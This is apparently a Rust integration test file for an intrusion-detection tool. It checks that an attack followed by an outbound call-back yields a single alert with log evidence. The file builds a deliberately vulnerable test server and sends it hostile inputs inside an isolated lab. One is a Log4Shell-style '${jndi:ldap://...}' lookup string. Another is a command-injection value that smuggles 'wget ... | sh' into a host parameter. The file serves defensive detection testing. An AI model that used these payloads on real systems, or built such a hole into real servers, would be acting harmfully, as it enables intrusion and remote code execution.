//! Does an attack that was followed by a call-back come as one alert with its evidence, and nothing else as one?

use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{IpAddr, SocketAddr, TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, SystemTime};

use serde_json::Value;
use tripoint_linux::child;
use tripoint_linux::lab::Lab;
use tripoint_model::Timestamp;

use crate::instance::{BAD4, Instance, PORT, stage};

const RULE: &str = "exploited_then_called_back";
/// Not on any list; it answers outside.
const UNLISTED: &str = "203.0.113.77";
const AT: &str = "198.51.100.10:8081";
/// Tells a copy of this test program what it is.
const LOG: &str = "TRIPOINT_TEST_SERVER_LOG";
const CALL: &str = "TRIPOINT_TEST_CALL";

/// Not a test of its own: a server that does what visitors write. It logs each request when it has answered it.
#[test]
#[ignore = "a program that the other tests start"]
fn vulnerable_server() {
    let Some(log) = std::env::var_os(LOG) else { return };
    let mut log = std::fs::File::options().create(true).append(true).open(log).unwrap();
    let listener = TcpListener::bind(AT).unwrap();
    for stream in listener.incoming() {
        let mut stream = stream.unwrap();
        let client = stream.peer_addr().unwrap().ip();
        let mut line = String::new();
        let _ = BufReader::new(stream.try_clone().unwrap()).read_line(&mut line);
        let line = line.trim_end();
        obey(line);
        let time = Timestamp::from_system(SystemTime::now()).to_string();
        let (date, clock) = time.split_once('T').unwrap();
        let [year, month, day] = date.split('-').collect::<Vec<_>>()[..] else { panic!("{date}") };
        let month = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
            [month.parse::<usize>().unwrap() - 1];
        let stamp = format!("{day}/{month}/{year}:{} +0000", &clock[..8]);
        writeln!(log, "{client} - - [{stamp}] \"{line}\" 200 2 \"-\" \"-\"").unwrap();
        let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
    }
}

/// A logging library looks a name up; a shell is given what should have been a host.
fn obey(line: &str) {
    if let Some((_, rest)) = line.split_once("${jndi:ldap://") {
        let at = rest.split('/').next().unwrap();
        call(at.parse().unwrap());
    } else if let Some((_, rest)) = line.split_once("/mirror/") {
        call(rest.split(' ').next().unwrap().parse().unwrap());
    } else if let Some((_, rest)) = line.split_once(";wget+http://") {
        let at = rest.split('/').next().unwrap();
        let this = std::env::current_exe().unwrap();
        let script = format!("\"{}\" called_back::calls_out --exact --ignored; true", this.display());
        let mut shell = Command::new("sh");
        shell.args(["-c", &script]).env(CALL, at).stdout(Stdio::null()).stderr(Stdio::null());
        let _ = shell.spawn().unwrap().wait();
    }
}

/// Not a test either: what the shell is told to fetch with.
#[test]
#[ignore = "a program that the other tests start"]
fn calls_out() {
    let Ok(at) = std::env::var(CALL) else { return };
    call(at.parse().unwrap());
}

fn call(at: SocketAddr) {
    if let Ok(mut stream) = TcpStream::connect_timeout(&at, Duration::from_secs(3)) {
        let _ = stream.write_all(b"here I am");
        let _ = stream.set_read_timeout(Some(Duration::from_millis(300)));
        let _ = stream.read(&mut [0; 16]);
    }
}

/// The server as a process of its own, inside the laboratory.
struct Server {
    child: Child,
    log: PathBuf,
}

impl Server {
    fn start(lab: &Lab, folder: &Path) -> Self {
        let program = folder.join("portal");
        std::fs::copy(std::env::current_exe().unwrap(), &program).unwrap();
        let log = folder.join("portal-access.log");
        let mut command = Command::new(program);
        command.args(["called_back::vulnerable_server", "--exact", "--ignored"]).env(LOG, &log);
        command.stdout(Stdio::null()).stderr(Stdio::null());
        child::ends_with_parent(&mut command);
        child::in_namespace(&mut command, &lab.inside).unwrap();
        Self { child: command.spawn().unwrap(), log }
    }

    /// A visitor from outside asks for something; comes back when it is answered.
    fn ask(&self, lab: &Lab, from: &str, target: &str) {
        let (from, target) = (from.parse::<IpAddr>().unwrap(), target.to_owned());
        let ask = move || {
            let until = std::time::Instant::now() + Duration::from_secs(10);
            loop {
                match bound(from) {
                    Ok(mut stream) => {
                        write!(stream, "GET {target} HTTP/1.1\r\n\r\n").unwrap();
                        let _ = stream.read_to_end(&mut Vec::new());
                        return;
                    }
                    Err(error) => assert!(std::time::Instant::now() < until, "{error}"),
                }
                std::thread::sleep(Duration::from_millis(20));
            }
        };
        lab.outside.run(ask).unwrap();
    }

    fn told(&self) -> String {
        std::fs::read_to_string(&self.log).unwrap_or_default()
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn bound(from: IpAddr) -> std::io::Result<TcpStream> {
    use rustix::net::{AddressFamily, SocketType, bind, connect, socket};
    let socket = socket(AddressFamily::INET, SocketType::STREAM, None)?;
    bind(&socket, &SocketAddr::new(from, 0))?;
    connect(&socket, &AT.parse::<SocketAddr>().unwrap())?;
    Ok(socket.into())
}

/// A second and a third address outside: one listed by nobody calls, one answers.
fn neighbours(lab: &Lab) {
    lab.outside
        .run(|| {
            let mut links = tripoint_linux::link::Links::open().unwrap();
            for address in ["203.0.113.77/24", "203.0.113.78/24"] {
                links.address("eth0", address.parse().unwrap()).unwrap();
            }
        })
        .unwrap();
    let listener = lab.listen_outside(SocketAddr::new(UNLISTED.parse().unwrap(), PORT)).unwrap();
    std::thread::spawn(move || {
        for mut caller in listener.incoming().flatten() {
            std::thread::spawn(move || std::io::copy(&mut caller, &mut std::io::sink()));
        }
    });
}

fn of_rule(instance: &Instance) -> Vec<Value> {
    let alerts = instance.run(&["alerts", "list", "--all"]).1;
    alerts.as_array().into_iter().flatten().filter(|alert| alert["rule"] == RULE).cloned().collect()
}

#[test]
fn a_server_that_is_attacked_and_calls_a_listed_peer_is_one_alert_with_its_evidence() {
    let Some((_alone, lab, mut instance, app)) = stage("") else { return };
    neighbours(&lab);
    let server = Server::start(&lab, instance.path());
    instance.up();
    // Who attacks is on no list, and nothing of the server is known to be vulnerable.
    server.ask(&lab, "203.0.113.78", "/index.html");
    server.ask(&lab, "203.0.113.78", &format!("/?x=${{jndi:ldap://{BAD4}:{PORT}/a}}"));
    let alert = instance.wait("the alert", || instance.alert(RULE, BAD4));
    let call_back = &alert["call_back"];
    let attempt = &call_back["attempts"][0];
    assert!(attempt["file"].as_str().unwrap().ends_with("/portal-access.log"), "{call_back:#}");
    assert_eq!((&attempt["line"], &attempt["family"]), (&2.into(), &"jndi".into()), "{call_back:#}");
    assert!(server.told().lines().any(|line| attempt["raw"] == line), "the line as it stands: {call_back:#}");
    assert_eq!(call_back["server"]["key"]["pid"], server.child.id(), "{call_back:#}");
    assert_eq!(call_back["connection"]["remote"], format!("{BAD4}:{PORT}"), "{call_back:#}");
    assert!(
        call_back["child"].is_null() && call_back["reasons"].to_string().contains("names the peer"),
        "{call_back:#}"
    );
    let factors = alert["severity"]["factors"].to_string();
    assert!(factors.contains("called-back") && factors.contains("log-likely-succeeded"), "{factors}");
    // The logs of the alert show it too, with whoever sent it.
    let id = alert["id"].as_str().unwrap().to_owned();
    let verdict = instance.wait("what its log says", || {
        let alert = instance.fine(&["alerts", "show", &id]);
        Some(alert["investigation"]["logs"]["verdict"].clone()).filter(|verdict| !verdict.is_null())
    });
    assert_eq!(verdict, "likely_succeeded");
    assert_eq!(of_rule(&instance).len(), 1);
    drop(app);
}

#[test]
fn what_an_attacked_server_begins_and_calls_is_seen_although_nobody_lists_the_peer() {
    let Some((_alone, lab, mut instance, app)) = stage("[correlator]\nalert_bad_peer = true\n") else { return };
    neighbours(&lab);
    let server = Server::start(&lab, instance.path());
    instance.up();
    server.ask(&lab, BAD4, &format!("/ping?host=;wget+http://{UNLISTED}:{PORT}/x|sh"));
    let alert = instance.wait("the alert", || instance.alert(RULE, UNLISTED));
    let call_back = &alert["call_back"];
    assert_eq!(call_back["attempts"][0]["verdict"], "likely_succeeded", "{call_back:#}");
    assert_eq!(call_back["attempts"][0]["remote"], BAD4, "{call_back:#}");
    assert!(call_back["attempts"][0]["reasons"].to_string().contains("the server began /usr/bin/"), "{call_back:#}");
    assert_eq!(call_back["server"]["key"]["pid"], server.child.id(), "{call_back:#}");
    assert_ne!(call_back["child"]["key"]["pid"], server.child.id(), "{call_back:#}");
    assert_eq!(call_back["connection"]["remote"], format!("{UNLISTED}:{PORT}"), "{call_back:#}");
    assert!(alert["title"].as_str().unwrap().contains("portal@"), "{alert:#}");
    assert!(alert["claims"].as_array().unwrap().is_empty(), "{alert:#}");
    drop(app);
}

#[test]
fn attempts_without_call_back_strangers_calls_and_attempts_afterwards_are_none() {
    let Some((_alone, lab, mut instance, mut app)) = stage("[correlator]\nalert_bad_peer = true\n") else { return };
    neighbours(&lab);
    let server = Server::start(&lab, instance.path());
    instance.up();
    // The server calls the listed peer by itself; what is tried afterwards has no part in it, and is not followed by
    // anything.
    server.ask(&lab, "203.0.113.78", &format!("/mirror/{BAD4}:{PORT}"));
    std::thread::sleep(Duration::from_secs(4));
    server.ask(&lab, BAD4, "/?x=${jndi:dns://192.0.2.1/a}");
    // Somebody else on the host calls it after that.
    app.call("tcp", BAD4);
    instance.wait("the other's alert", || instance.alert("bad_server_of_vulnerable_app", BAD4));
    let alerts = instance.fine(&["alerts", "list", "--all"]);
    let of_portal = |direction: &str| {
        let is = |alert: &&Value| alert["direction"] == direction && alert["application"]["name"] == "portal";
        alerts.as_array().unwrap().iter().find(is).unwrap_or_else(|| panic!("{alerts:#}"))["id"].as_str().unwrap()
    };
    let outbound = instance.fine(&["investigate", of_portal("outbound")]);
    assert_eq!(outbound["investigation"]["logs"]["verdict"], "attempted", "{outbound:#}");
    let inbound = instance.fine(&["investigate", of_portal("inbound")]);
    assert_eq!(inbound["investigation"]["logs"]["verdict"], "attempted", "{inbound:#}");
    assert!(of_rule(&instance).is_empty(), "{:#?}", of_rule(&instance));
    let severity = instance.wait("what the log adds", || {
        let severity = instance.fine(&["alerts", "show", of_portal("inbound")])["severity"].to_string();
        severity.contains("log-attempted").then_some(severity)
    });
    assert!(!severity.contains("called-back"), "{severity}");
}
